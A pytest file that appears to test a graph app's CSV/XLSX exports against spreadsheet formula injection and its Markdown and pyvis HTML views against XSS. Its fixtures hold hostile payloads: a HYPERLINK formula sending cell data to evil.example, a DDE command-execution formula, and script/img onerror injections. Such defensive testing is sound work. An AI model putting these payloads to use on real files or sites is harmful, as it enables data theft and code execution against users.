"""Issue #11 items 12 and 13: hostile names in the data, on both stores.

12. Nothing bound for a spreadsheet holds a formula: ``query --format csv``, ``chaingraph export``,
    the Leads page's XLSX and CSV.  A text cell starting with = + - @ TAB CR is written with a leading
    apostrophe (numbers stay numbers), and export → clear → load gives back the same stored values,
    including a value that itself starts with an apostrophe before "=".
13. Names reach the app's Markdown escaped (no image fetched, no HTML), and the pyvis HTML export
    carries no raw <script> or <img> from the data.
"""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pytest
from streamlit.testing.v1 import AppTest

from loaders.export import export_rows
from loaders.load import load_paths
from tests.conftest import ROOT

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
IMAGE = "![t](http://host/x.png)"
SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
ALLIANCE = "al<img src=x onerror=alert(2)>"      # an id: pyvis shows it in the node's title (HTML)
HOSTILE = {
    "o1": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "o2": "=cmd|' /C calc'!A0",
    "o3": "''=already quoted",    # the file says ''=…: the loader takes one apostrophe off
    "o4": IMG,
    "o5": "-2+3",
    "o6": "@SUM(A1:A9)",
    "-x7": "+86 园外企业",
}
TABLES = {
    "Chain.csv": [["id", "name"], ["ch_h", "=链"]],
    "Segment.csv": [["id", "name", "stage", "order"], ["s1", "@环节", "上游", "1"], ["s2", IMAGE, "中游", "2"]],
    "PART_OF.csv": [["from", "to"], ["s1", "ch_h"], ["s2", "ch_h"]],
    "FEEDS.csv": [["from", "to"], ["s1", "s2"]],
    "Enterprise.csv": [["id", "name", "in_zone", "chain_enterprise", "kind", "region", "honours"],
                       ["e1", IMAGE, "true", "true", "链主", "=1+1", "=evil|ok"],
                       ["e2", SCRIPT, "true", "true", "一般", "", ""],
                       *[[i, name, "false", "false", "一般", "-北京", ""] for i, name in HOSTILE.items()]],
    "IN_SEGMENT.csv": [["from", "to"], ["e1", "s1"], ["e2", "s1"], *[[i, "s2"] for i in HOSTILE]],
    "SUPPLIES.csv": [["from", "to", "weight"], *[[i, "e1" if n % 2 else "e2", f"0.{n}"]
                                                 for n, i in enumerate(HOSTILE, start=1)]],
    "Alliance.csv": [["id", "name"], [ALLIANCE, "<b>联合体</b>"]],
    "MEMBER_OF.csv": [["from", "to"], ["e1", ALLIANCE]],
}


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    path = tmp_path_factory.mktemp("hostile-files")
    for name, rows in TABLES.items():
        with (path / name).open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(rows)
    return path


def formula_free(cells) -> None:
    for value in cells:
        if isinstance(value, str) and value:
            assert not value.startswith(TRIGGERS), value


def test_query_and_cypher_csv_hold_no_formula(zone):
    out = zone.cli("query", "leads", "--format", "csv")
    rows = list(csv.reader(io.StringIO(out)))
    formula_free(c for row in rows for c in row)
    names = {row[rows[0].index("name")] for row in rows[1:]}
    assert "'" + HOSTILE["o2"] in names and "'" + HOSTILE["o1"] in names
    assert "''=already quoted" in names                     # its own apostrophe kept, one added
    assert IMG in names                                     # not a formula: unchanged
    numbers = list(csv.DictReader(io.StringIO(zone.cli("cypher", "RETURN -5 AS n, '-5' AS t", "--format", "csv"))))
    assert numbers == [{"n": "-5", "t": "'-5"}]             # a number stays a number


def test_export_is_formula_free_and_round_trips(zone, tmp_path):
    with zone.open() as store:
        before = export_rows(store)
    out = tmp_path / "export"
    zone.cli("export", str(out))
    for path in out.glob("*.csv"):
        with path.open(encoding="utf-8") as fh:
            formula_free(c for row in csv.reader(fh) for c in row)
    with zone.open() as store:
        names = {r["id"]: r["name"] for r in store.read("MATCH (e:Enterprise) RETURN e.id AS id, e.name AS name")}
        assert names["o3"] == "'=already quoted" and names["o2"] == HOSTILE["o2"]
        store.clear()
        load_paths(store, [out])
        after = export_rows(store)
        names = {r["id"]: r["name"] for r in store.read("MATCH (e:Enterprise) RETURN e.id AS id, e.name AS name")}
        honours = store.read("MATCH (e:Enterprise {id: 'e1'}) RETURN e.honours AS h, e.region AS r")[0]
    assert after == before
    assert names["o3"] == "'=already quoted" and names["-x7"] == HOSTILE["-x7"]
    assert honours == {"h": ["=evil", "ok"], "r": "=1+1"}


def test_the_apps_xlsx_and_csv_hold_no_formula(zone):
    from app_pages.leads import csv_bytes, xlsx_bytes
    table = zone.run("leads", limit=100).table
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(table)))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    formula_free(c.value for c in cells)
    values = {c.value for c in cells}
    assert "'" + HOSTILE["o2"] in values and "'" + HOSTILE["o1"] in values
    assert any(isinstance(c.value, float) for c in cells)          # scores stay numbers
    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"))))
    formula_free(c for row in rows for c in row)
    assert "'" + HOSTILE["o6"] in {c for row in rows for c in row}


def test_pyvis_export_carries_no_markup_from_the_data(zone):
    from app_pages import drawing
    result = zone.run("neighbourhood", ids=["e1", "e2", "s2"], cap=100)
    names = {n.get("name") for n in result.graph.nodes.values()}
    assert {SCRIPT, IMG, IMAGE} <= names
    page = drawing.pyvis_html(result.graph, drawing.spring_positions(result.graph))
    assert SCRIPT not in page and "<script>alert" not in page and "<img src=x" not in page
    assert "\\u003cscript\\u003ealert(1)" in page                   # the name is there, as JSON text
    nodes = json.loads(re.search(r"nodes = new vis\.DataSet\((\[.*?\])\);", page).group(1))
    titles = {n["id"]: n["title"] for n in nodes}
    assert titles[ALLIANCE] == "Alliance al&lt;img src=x onerror=alert(2)&gt;"   # shown as text, not HTML


def test_app_pages_show_names_escaped(zone, monkeypatch):
    """Leads, gaps and panorama with hostile names: every Markdown text holds them escaped."""
    from app_pages.common import _store
    monkeypatch.setenv("CHAINGRAPH_STORE", zone.backend)
    monkeypatch.setenv("CHAINGRAPH_AUTOLOAD", "0")
    if zone.data_dir:
        monkeypatch.setenv("CHAINGRAPH_DATA_DIR", str(zone.data_dir))
    with zone.open():
        pass                                                          # Neo4j: this zone is the one loaded
    try:
        texts = []
        for page, query in (("leads", {}), ("gaps", {}), ("panorama", {"chain": "ch_h"})):
            monkeypatch.setenv("CHAINGRAPH_DEFAULT_PAGE", page)
            at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=120)
            for key, value in query.items():
                at.query_params[key] = value
            at.run()
            assert not at.exception, [e.message for e in at.exception]
            texts += [e.value for kind in ("markdown", "caption", "subheader", "title", "error", "warning", "info")
                      for e in getattr(at, kind)]
        shown = "\n".join(texts)
        for raw in ("![t](", "<img", "<script", "<b>"):
            assert raw not in shown, raw
        assert r"\!\[t\]\(http\://host/x\.png\)" in shown               # the partner's name, escaped
    finally:
        _store.clear()
